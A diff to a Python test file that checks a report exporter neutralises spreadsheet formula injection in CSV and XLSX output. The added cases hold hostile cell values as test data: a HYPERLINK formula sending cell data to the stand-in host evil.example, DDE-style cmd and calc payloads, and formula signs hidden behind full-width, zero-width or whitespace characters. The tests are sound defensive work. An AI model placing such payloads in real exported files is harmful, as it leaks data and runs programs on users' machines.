@@ -106,6 +106,27 @@ def test_the_cli_export_neutralises_every_text_cell(app, hostile_response, tmp_p
         ("\rx", "'\rx"),
         ("plain text", "plain text"),
         ("", ""),
+        # What a spreadsheet reads as the same signs (issue 20): full-width and other
+        # compatibility forms, after whitespace, a line break or invisible characters.
+        (
+            '＝HYPERLINK("http://evil.example/?x="&A1)',
+            '\'＝HYPERLINK("http://evil.example/?x="&A1)',
+        ),
+        ("＋1", "'＋1"),
+        ("－1", "'－1"),
+        ("＠SUM(A1)", "'＠SUM(A1)"),
+        ("﹦1+1", "'﹦1+1"),
+        ("\n=1+1", "'\n=1+1"),
+        (" =1+1", "' =1+1"),
+        ("\u3000＝1", "'\u3000＝1"),
+        ("\u200b=1", "'\u200b=1"),
+        ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
+        ("\x00=1", "'\x00=1"),
+        ("|cmd", "'|cmd"),
+        (" | calc", "' | calc"),
+        ("=\u0338 not equal", "'=\u0338 not equal"),
+        (" plain, after a space", " plain, after a space"),
+        ("１２ apps", "１２ apps"),
         (-3, -3),
         (2.5, 2.5),
         (-0.5, -0.5),
@@ -131,6 +152,17 @@ def test_published_tables_csv_and_xlsx_neutralise_labels():
     cell = workbook["Report"]["B1"]
     # Typed as text, with the quote prefix: shown as written, never run.
     assert cell.value == "=cmd|' /C calc'!A0"
+    assert cell.data_type == "s" and cell.quotePrefix
+
+
+def test_published_tables_guard_full_width_and_hidden_formula_signs():
+    report = sample_report()
+    report["survey"]["title"] = '\n＝HYPERLINK("http://evil.example")'
+    rows = list(csv.reader(io.StringIO(render.tables_csv(report))))
+    assert ["Survey", '\'\n＝HYPERLINK("http://evil.example")'] in rows
+    workbook = load_workbook(io.BytesIO(render.tables_xlsx(report)))
+    cell = workbook["Report"]["B1"]
+    assert cell.value == '\n＝HYPERLINK("http://evil.example")'
     assert cell.data_type == "s" and cell.quotePrefix
 
 
